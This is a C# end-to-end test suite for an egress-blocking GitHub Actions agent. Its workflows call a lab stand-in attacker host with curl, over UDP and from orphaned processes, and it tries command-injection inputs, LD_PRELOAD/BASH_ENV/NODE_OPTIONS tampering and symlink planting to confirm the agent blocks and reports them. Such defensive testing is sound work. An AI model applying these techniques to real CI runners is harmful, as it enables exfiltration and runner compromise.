using System.Text.Json;
using Sallyport.EndToEnd.Tests.Machine;
using Sallyport.Lab;
using Sallyport.Lab.Servers;

namespace Sallyport.EndToEnd.Tests;

/// <summary>The Action in a job: it installs the agent, starts it, and says at the end what was refused.</summary>
public sealed class ActionTests(MachineFixture fixture) : IClassFixture<MachineFixture>
{
    private const string Attacker = $"curl -sS --max-time 30 http://{LabAddresses.Attacker}";

    /// <summary>The Action's inputs, lines of YAML; then steps, lines of YAML.</summary>
    private static string Workflow(string inputs, string steps) => $"""
        name: Action
        on: push
        jobs:
          build:
            runs-on: ubuntu-24.04
            steps:
              - name: Harden Runner
                id: protect
                uses: step-security/harden-runner@rc
                with:
                  {inputs.ReplaceLineEndings("\n          ")}
              {steps.ReplaceLineEndings("\n      ")}
        """;

    private const string Block = """
        egress-policy: block
        allowed-endpoints: >
          github.com:443
          v4.test:80
        """;

    private const string Calls = $"""
        - name: Checkout
          uses: actions/checkout@v4
        - name: Call out
          id: call
          run: |
            cat README.md
            curl -sS --max-time 30 http://v4.test/allowed
            {Attacker}/out || echo "curl says $?"
        """;

    [Fact]
    public async Task In_block_mode_it_protects_and_reports()
    {
        // Outputs are main's: places, numbers as they were then, and the agent that says them anew.
        const string Asks = """
            - name: Asks again
              run: |
                "${{ steps.protect.outputs.agent }}" job stop --json > "$SIGNS/so-far"
                echo "${{ steps.protect.outputs.refused }} ${{ steps.protect.outputs.findings }}" > "$SIGNS/first"
                cp "${{ steps.protect.outputs.report }}" "$SIGNS/report.json"
                "${{ steps.protect.outputs.agent }}" report --format json "${{ steps.protect.outputs.recording }}" > "$SIGNS/recorded.json" || [ $? = 66 ]
            """;
        using StartedRun started = Start(Workflow(Block, $"{Calls}\n{Asks}"));
        WorkflowRun run = await started.EndAsync();
        Assert.True(run.ConclusionOf() == "success", run.ToString());
        Assert.True(run.Traffic.Contains("/allowed "), run.ToString());
        Assert.False(run.Traffic.Contains("/out "), run.ToString());
        Assert.Equal(["refused"], run.Report.Verdicts("call", LabAddresses.Attacker));
        Assert.Equal("enforcing", run.Report.InForce);
        Assert.True(run.Report.IsComplete, run.ToString());

        JsonElement post = run.Step("Post Harden Runner");
        string summary = post.GetProperty("summary").GetString()!;
        Assert.Contains(LabAddresses.Attacker, summary, StringComparison.Ordinal);
        Assert.Contains("Call out", summary, StringComparison.Ordinal);
        Assert.Contains("in force before every step, ", summary, StringComparison.Ordinal); // "Set up job" came before
        run.Report.AssertBegan(fromStart: true);
        JsonElement annotation = Assert.Single(
            post.GetProperty("annotations").EnumerateArray(), notice => notice.GetProperty("level").GetString() != "notice");
        string message = $"{annotation.GetProperty("title")} {annotation.GetProperty("message")}";
        Assert.All(["Call out", "curl", LabAddresses.Attacker], text => Assert.Contains(text, message, StringComparison.Ordinal));
        JsonElement places = run.Step("Harden Runner").GetProperty("outputs");
        Assert.EndsWith("report.json", places.GetProperty("report").GetString(), StringComparison.Ordinal);
        Assert.EndsWith(".zst", places.GetProperty("recording").GetString(), StringComparison.Ordinal);
        Assert.Empty(post.GetProperty("outputs").EnumerateObject());
        Assert.Equal("0 0\n", await File.ReadAllTextAsync(Path.Combine(started.Folder, "first"), TestContext.Current.CancellationToken));
        JsonElement soFar = RunnerMachine.ReadJson(Path.Combine(started.Folder, "so-far"));
        Assert.Equal(1, soFar.GetProperty("refused").GetInt32());
        JobReport written = new(started.Folder);
        Assert.Empty(written.Findings);
        Assert.Equal(written.Pauses.Count(), soFar.GetProperty("findings").GetInt32());
        Assert.Contains(written.Connections, row => JobReport.Text(row, "verdict") == "refused");

        // Its recording can be read by then, as far as it was written.
        Assert.Contains(
            RunnerMachine.ReadJson(Path.Combine(started.Folder, "recorded.json")).GetProperty("connections").EnumerateArray(),
            row => JobReport.Text(row, "verdict") == "refused");

        // Which mode and why, and what nobody wrote.
        Assert.Contains("`block: egress-policy says so`", summary, StringComparison.Ordinal);
        Assert.Contains("@github-actions", summary, StringComparison.Ordinal);
        Assert.Contains("`*.actions.githubusercontent.com:443`", summary, StringComparison.Ordinal);

        // Nobody has its standard error.
        Assert.Contains(
            "answering on demand", await File.ReadAllTextAsync(Path.Combine(run.WorkFolder, "run", "agent.log"), TestContext.Current.CancellationToken),
            StringComparison.Ordinal);

        // Nothing but the runner itself comes after our post.
        Assert.Equal(
            ["Post Harden Runner", "Complete job"],
            run.Result.GetProperty("jobs")[0].GetProperty("steps").EnumerateArray()
                .OrderBy(step => step.GetProperty("number").GetInt32()).Select(step => step.GetProperty("name").GetString()).TakeLast(2));
    }

    [Fact]
    public async Task Without_inputs_it_watches_and_says_why()
    {
        WorkflowRun run = await RunAsync(Workflow("disable-telemetry: true", Calls));
        Assert.True(run.ConclusionOf() == "success", run.ToString());
        Assert.True(run.Traffic.Contains("/out "), run.ToString());
        Assert.Equal(["observed"], run.Report.Verdicts("call", LabAddresses.Attacker));
        Assert.Contains("audit", run.TextOf("Pre Harden Runner"), StringComparison.Ordinal);
        string summary = run.Step("Post Harden Runner").GetProperty("summary").GetString()!;
        Assert.Contains(LabAddresses.Attacker, summary, StringComparison.Ordinal);
        Assert.Contains("`audit: neither egress-policy, nor a policy, nor allowed-endpoints is given`", summary, StringComparison.Ordinal);
    }

    /// <summary>By name and by address of both families, with TLS, without TCP, and a question that nothing follows: under `bash -e`, so all must go well.</summary>
    private const string Various = $$"""
        - name: Call out
          id: call
          run: |
            curl -sS --max-time 30 http://v4.test/by-name
            {{Attacker}}/by-address
            curl -sS --max-time 30 -g 'http://[{{LabAddresses.Attacker6}}]/by-address-six'
            curl -sS --max-time 30 -k https://evilallowed.test/by-tls
            echo by-datagram > /dev/udp/{{LabAddresses.Attacker}}/9999
            getent ahostsv4 question.attacker.test
        """;

    [Fact]
    public async Task The_policy_to_paste_is_all_that_a_job_in_block_mode_needs()
    {
        WorkflowRun audit = await RunAsync(Workflow("egress-policy: audit", Various));
        Assert.True(audit.ConclusionOf() == "success", audit.ToString());
        string[] summary = audit.Step("Post Harden Runner").GetProperty("summary").GetString()!.Split('\n');
        string[] pasted =
        [
            .. summary.SkipWhile(line => line != "```diff").Skip(1).TakeWhile(line => line != "```").Select(line => line[1..]),
        ];
        const string Sha = "7061737465640000000000000000000000000000";
        RepositoryContents.Commit(Sha, string.Join('\n', ["version: 1", "mode: block", .. pasted, ""]));
        const string More = $"{Various}\n    {Attacker}:8080/not-pasted || true";
        WorkflowRun block = await RunAsync(
            Workflow("policy-file: .github/egress.yml", More), "--sha", Sha, "--env", "NODE_EXTRA_CA_CERTS=/run/lab/ca.pem");
        string both = $"{string.Join('\n', pasted)}\n{block}";
        Assert.True(block.ConclusionOf() == "success" && block.Report.InForce == "enforcing", both);
        Assert.All([audit, block], run => Assert.All(["/by-name ", "/by-address ", "/by-address-six ", "by-datagram", "question.attacker.test"], call =>
            Assert.True(run.Traffic.Contains(call), $"{call}\n{both}")));
        Assert.Contains(block.Traffic.Conversations, one => one.ServerName == "evilallowed.test");

        // Nothing is refused but what the first run did not call.
        Assert.True(block.Report.Connections.Single(row => JobReport.Text(row, "verdict") == "refused").GetProperty("port").GetInt32() == 8080, both);
        Assert.DoesNotContain(block.Report.Names, row => JobReport.Text(row, "verdict") == "refused");
    }

    private const string Publishes = """
        - name: Publish
          run: |
            printf '#!/bin/sh\nexit 0\n' > twine; chmod 755 twine; ./twine upload dist/*
        """;

    [Theory]
    [InlineData("refused", Calls, "matched: --fail-on: 1 refused", null)]
    [InlineData("finding", Publishes, "matched: --fail-on: 1 finding", null)]
    [InlineData("new", Calls, null, "fail-on: new compares nothing here")]
    public async Task Fail_on_decides_the_colour_of_the_job(string failOn, string steps, string? matched, string? warning)
    {
        WorkflowRun run = await RunAsync(Workflow($"{Block}\nfail-on: {failOn}", steps));
        JsonElement post = run.Step("Post Harden Runner");
        string conclusion = matched is null ? "success" : "failure";
        Assert.Equal(conclusion, post.GetProperty("conclusion").GetString());
        Assert.Equal(conclusion, run.ConclusionOf());
        Assert.Equal(matched, Titled(post, "fail-on"));
        Assert.Equal(warning is not null, Titled(run.Step("Pre Harden Runner"), "fail-on: new compares nothing here") is not null);
    }

    private static string? Titled(JsonElement step, string title) => step.GetProperty("annotations").EnumerateArray()
        .Where(one => one.GetProperty("title").GetString() == title).Select(one => one.GetProperty("message").GetString()).SingleOrDefault();

    [Fact]
    public async Task Every_mistake_is_an_annotation_with_its_line_and_the_step_fails()
    {
        const string Inputs = """
            egress-policy: block
            allowed-endpoints: |
              github.com:443
              not_a_host!:443
              v4.test:99999
            """;
        WorkflowRun run = await RunAsync(Workflow(Inputs, Calls));
        Assert.Equal("failure", run.ConclusionOf());
        JsonElement step = run.Step("Pre Harden Runner");
        Assert.Equal("failure", step.GetProperty("conclusion").GetString());
        string[] messages = [.. step.GetProperty("annotations").EnumerateArray().Select(a => a.ToString())];
        Assert.Contains(messages, m => m.Contains("not_a_host!", StringComparison.Ordinal) && m.Contains('2', StringComparison.Ordinal));
        Assert.Contains(messages, m => m.Contains("99999", StringComparison.Ordinal) && m.Contains('3', StringComparison.Ordinal));
        Assert.False(run.Traffic.Contains("/out "), run.ToString());
    }

    /// <summary>R17.</summary>
    [Theory]
    [InlineData("egress-policy: block\nallowed-endpoints: '$(touch $SIGNS/owned) `touch $SIGNS/owned`'")]
    [InlineData("egress-policy: '\"; touch $SIGNS/owned; \"'")]
    [InlineData("egress-policy: block\nfail-on: '$(touch $SIGNS/owned)'")]
    public async Task Inputs_are_never_commands(string inputs)
    {
        using StartedRun started = Start(Workflow(inputs, Calls));
        WorkflowRun run = await started.EndAsync();
        Assert.False(File.Exists(Path.Combine(started.Folder, "owned")), run.ToString());
        Assert.Equal("failure", run.ConclusionOf());
        Assert.Equal("failure", run.Step("Pre Harden Runner").GetProperty("conclusion").GetString());
    }

    [Fact]
    public async Task What_steps_leave_in_the_environment_does_not_reach_its_end()
    {
        // R18. A step's own word for what it may call is taken by nobody; what every program of the job loads, the agent does not.
        const string Steps = $$"""
            - name: Leaves traps
              run: |
                mkdir -p "$SIGNS/bin"
                for name in node sudo sallyport sh git; do
                  printf '#!/bin/sh\necho %s >> %s/taken\nexit 0\n' $name "$SIGNS" > "$SIGNS/bin/$name"
                  chmod 755 "$SIGNS/bin/$name"
                done
                echo "$SIGNS/bin" >> "$GITHUB_PATH"
                printf 'touch %s/sourced\n' "$SIGNS" > "$SIGNS/rc"
                {
                  echo "LD_PRELOAD=$PROGRAMS/loaded.so"
                  echo "LOADED_LOG=$SIGNS/loaded"
                  echo "BASH_ENV=$SIGNS/rc"
                  echo "ENV=$SIGNS/rc"
                  echo "INPUT_FAIL-ON=never"
                  echo "SALLYPORT=$SIGNS/bin/sallyport"
                } >> "$GITHUB_ENV"
                echo "NODE_OPTIONS=--require $SIGNS/rc" >> "$GITHUB_ENV" || true
            - name: Calls out
              id: call
              run: |
                {{Attacker}}/out || echo "curl says $?"
            """;
        using StartedRun started = Start(Workflow($"{Block}\nfail-on: refused", Steps));
        WorkflowRun run = await started.EndAsync();
        Assert.Contains(
            LabAddresses.Attacker, run.Step("Post Harden Runner").GetProperty("summary").GetString(), StringComparison.Ordinal);
        Assert.Equal("failure", run.Step("Post Harden Runner").GetProperty("conclusion").GetString());
        string loaded = await File.ReadAllTextAsync(
            Path.Combine(started.Folder, "loaded"), TestContext.Current.CancellationToken);
        Assert.Contains("curl", loaded, StringComparison.Ordinal);
        Assert.DoesNotContain("sallyport", loaded, StringComparison.Ordinal);
        Assert.False(File.Exists(Path.Combine(started.Folder, "taken")), run.ToString());
        Assert.Equal(
            ["BASH_ENV", "LD_PRELOAD", "NODE_OPTIONS"],
            run.Report.Findings.Where(row => JobReport.Text(row, "id") == "later-code-set" && JobReport.Text(row, "step") == "__run")
                .Select(row => JobReport.Text(row.GetProperty("evidence"), "variable")!).Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task Nothing_can_be_planted_where_the_agent_writes()
    {
        // R13: without sudo, the job's user tries every folder of the agent, by link and by file. In a folder of its own it succeeds.
        const string Steps = """
            - name: Plants
              run: |
                echo mine > "$SIGNS/victim"
                mkdir "$SIGNS/control"
                for folder in "$SIGNS/control" /var/lib/sallyport /var/lib/sallyport/jobs /var/lib/sallyport/jobs/* /var/lib/sallyport/spool \
                    /var/lib/sallyport/undo /run/sallyport /run/sallyport/jobs /run/sallyport/sockets /etc/sallyport; do
                  victim=victim
                  [ "$folder" != "$SIGNS/control" ] || victim=own-victim
                  for name in report.json summary.md recording.ndjson.zst control.sock planted; do
                    ln -sfn "$SIGNS/$victim" "$folder/$name" 2> /dev/null && echo "$folder/$name" >> "$SIGNS/planted"
                    (echo x > "$folder/$name") 2> /dev/null && echo "$folder/$name" >> "$SIGNS/planted"
                    mv -f "$folder/$name" "$folder/$name.old" 2> /dev/null && echo "$folder/$name" >> "$SIGNS/planted"
                  done
                done
                true
            """;
        using StartedRun started = Start(Workflow($"{Block}\ndisable-sudo: true", Steps));
        WorkflowRun run = await started.EndAsync();
        string[] planted = await File.ReadAllLinesAsync(Path.Combine(started.Folder, "planted"), CancellationToken.None);
        Assert.All(planted, path => Assert.Contains("/control/", path, StringComparison.Ordinal));
        // Five names, each by a link, by what is written through it, and by another name.
        Assert.Equal(15, planted.Length);
        Assert.Equal(
            "mine\n", await File.ReadAllTextAsync(Path.Combine(started.Folder, "victim"), TestContext.Current.CancellationToken));
        Assert.True(run.ConclusionOf() == "success" && run.Report.IsComplete, run.ToString());
    }

    /// <summary>B10.</summary>
    [Fact]
    public async Task A_post_of_another_action_is_judged_too()
    {
        const string Steps = $"""
            - name: Late
              uses: test/late@v1
              with:
                script: {Attacker}/late-out
            """;
        WorkflowRun control = await fixture.Machine.RunAsync(
            Workflow("egress-policy: audit", Steps).Replace("step-security/harden-runner@rc", "test/late@v1", StringComparison.Ordinal));
        Assert.True(control.Traffic.Contains("/late-out "), control.ToString());
        WorkflowRun run = await RunAsync(Workflow(Block, Steps));
        Assert.False(run.Traffic.Contains("/late-out "), run.ToString());
        Assert.Equal(["refused"], run.Report.Connections.Where(row => JobReport.Text(row, "address") == LabAddresses.Attacker)
            .Select(row => JobReport.Text(row, "verdict")));
        string[] order = [.. run.Result.GetProperty("jobs")[0].GetProperty("steps").EnumerateArray()
            .Where(step => step.GetProperty("stage").GetString() == "Post"
                && step.GetProperty("name").GetString() != "Complete job").OrderBy(step => step.GetProperty("number").GetInt32())
            .Select(step => step.GetProperty("name").GetString()!)];
        Assert.Equal(["Post Late", "Post Harden Runner"], order);
        Assert.Contains(
            LabAddresses.Attacker, run.Step("Post Harden Runner").GetProperty("summary").GetString(), StringComparison.Ordinal);
    }

    /// <summary>
    /// B9 and B10 on a machine with hooks, and an action whose `pre` stands before ours: what came before is said, and after our post is judged
    /// as before, the runner's own last step and what an earlier step has left behind, which waits for our post's end.
    /// </summary>
    [Fact]
    public async Task What_came_before_its_pre_is_said_and_what_comes_after_its_post_is_judged()
    {
        const string Leaves = $"""
            - name: Leaves
              id: leaves
              run: |
                setsid sh -c 'until [ -e "$SIGNS/post-is-over" ]; do sleep 0.02; done; {Attacker}/orphan; touch "$SIGNS/orphan-called"' \
                  < /dev/null > /dev/null 2>&1 &
            """;
        const string Completed = $"""
            touch "$SIGNS/post-is-over"
            for i in $(seq 2000); do [ -e "$SIGNS/orphan-called" ] && break; sleep 0.02; done
            {Attacker}/completed || true
            """;
        string[] hooks = await fixture.Machine.HookAsync($"{Attacker}/started || true", Completed);
        string workflow = Workflow(Block, Leaves).Replace("    steps:\n", $"""
                steps:
                  - name: Earlier
                    uses: test/staged@v1
                    with:
                      url: http://{LabAddresses.Attacker}/earlier-

            """, StringComparison.Ordinal);
        WorkflowRun control = await RunAsync(workflow.Replace("step-security/harden-runner@rc", "test/late@v1", StringComparison.Ordinal), hooks);
        Assert.All(["/started ", "/earlier-pre ", "/earlier-main ", "/earlier-post ", "/orphan ", "/completed "], call =>
            Assert.True(control.Traffic.Contains(call), $"{call}\n{control}"));

        WorkflowRun run = await RunAsync(workflow, hooks);
        Assert.All(["/started ", "/earlier-pre "], call => Assert.True(run.Traffic.Contains(call), $"{call}\n{run}"));
        Assert.All(["/earlier-main ", "/earlier-post ", "/orphan ", "/completed "], call =>
            Assert.False(run.Traffic.Contains(call), $"{call}\n{run}"));
        Assert.False(run.Report.IsComplete, run.ToString());
        run.Report.AssertBegan(fromStart: false, "Set up runner", "Pre Earlier");
        Assert.EndsWith(
            "; steps that ran before: Set up runner, Pre Earlier",
            run.Step("Pre Harden Runner").GetProperty("annotations").EnumerateArray().Select(one => one.GetProperty("message").GetString()!)
                .Single(message => message.StartsWith("it began ", StringComparison.Ordinal)),
            StringComparison.Ordinal);

        // Our post is before two others here, and the final report has all.
        Assert.Equal(
            ["Post Harden Runner", "Post Earlier", "Complete runner", "Complete job"],
            run.Result.GetProperty("jobs")[0].GetProperty("steps").EnumerateArray()
                .OrderBy(step => step.GetProperty("number").GetInt32()).Select(step => step.GetProperty("name").GetString()).TakeLast(4));
        Assert.Equal(["refused"], run.Report.Verdicts("leaves", LabAddresses.Attacker));
        // That the hook is the runner's is what the log alone says.
        string[] callers = [.. run.Report.NamesOfStepsThatCalled(LabAddresses.Attacker).Order(StringComparer.Ordinal)];
        Assert.Equal(["Earlier", "Leaves", "Post Earlier"], callers[..^1]);
        Assert.Matches("^runner:complete-runner:[0-9]+[?]$", callers[^1]);
    }

    /// <summary>Before the checkout the workspace has what an earlier job has left there, such as a pull request's.</summary>
    [Fact]
    public async Task A_policy_file_is_that_of_the_commit_whatever_an_earlier_job_has_left_in_its_place()
    {
        string source = $"{RunnerMachine.Work}/earlier-workspace";
        await fixture.Machine.ShellAsync(
            "mkdir -p \"$1/.github\"; printf '%s\\n' \"$2\" > \"$1/.github/egress.yml\"",
            source, $"version: 1\nmode: audit\nallow: [v4.test:80, {LabAddresses.Attacker}:80]");
        WorkflowRun run = await RunAsync(
            Workflow("policy-file: .github/egress.yml", Calls.Replace("actions/checkout@v4", "test/late@v1", StringComparison.Ordinal)
                .Replace("cat README.md", "cat .github/egress.yml > \"$SIGNS/left\"", StringComparison.Ordinal)),
            "--env", "NODE_EXTRA_CA_CERTS=/run/lab/ca.pem", "--workspace-source", source);
        Assert.True(run.ConclusionOf() == "success", run.ToString());
        Assert.True(run.Traffic.Contains("/allowed ") && !run.Traffic.Contains("/out "), run.ToString());
        Assert.Equal(["refused"], run.Report.Verdicts("call", LabAddresses.Attacker));
        Assert.Contains("policy-file", run.TextOf("Pre Harden Runner"), StringComparison.Ordinal);

        // The token of the job goes to GitHub alone.
        Assert.True(run.Traffic.Contains("/contents/.github/egress.yml?ref=") && run.Traffic.Contains("Bearer ghs_"), run.ToString());
    }

    /// <summary>Root's own, in folders of root's alone: named, and part of the machine's image. Nothing is deployed.</summary>
    [Theory]
    [InlineData("agent-path: /run/lab/agent/sallyport", "/run/lab/agent")]
    [InlineData("", "/usr/local/bin")]
    public async Task An_agent_that_is_on_the_machine_is_run_where_it_is(string input, string place)
    {
        await fixture.Machine.ShellAsync("""
            mkdir -p -m 755 "$2" /run/lab/place/upper /run/lab/place/work
            mount -t overlay overlay -o "lowerdir=$2,upperdir=/run/lab/place/upper,workdir=/run/lab/place/work" "$2"
            install -m 755 "$1" "$2/sallyport"
            rm -rf /usr/lib/sallyport
            """, fixture.Machine.Product, place);
        try
        {
            WorkflowRun run = await RunAsync(Workflow($"{Block}\ndeploy-on-self-hosted-vm: false\n{input}", Calls), "--runner-environment", "self-hosted");
            Assert.True(run.ConclusionOf() == "success", run.ToString());
            Assert.True(run.Traffic.Contains("/allowed ") && !run.Traffic.Contains("/out "), run.ToString());
            Assert.Equal("enforcing", run.Report.InForce);
            Assert.Equal($"{place}/sallyport", run.Step("Harden Runner").GetProperty("outputs").GetProperty("agent").GetString());
            await fixture.Machine.ShellAsync("[ ! -e /usr/lib/sallyport ]");
        }
        finally
        {
            await fixture.Machine.ShellAsync("umount -l \"$1\"; rm -rf /run/lab/place", place);
        }
    }

    private async Task<WorkflowRun> RunAsync(string workflow, params IEnumerable<string> options)
    {
        using StartedRun run = Start(workflow, options);
        return await run.EndAsync();
    }

    /// <summary>As on a hosted runner: a user with sudo, no agent in the image.</summary>
    private StartedRun Start(string workflow, params IEnumerable<string> options)
    {
        fixture.Machine.Network.World.Clear();
        return fixture.Machine.Start(workflow, ["--user", RunnerMachine.User, .. options]);
    }
}
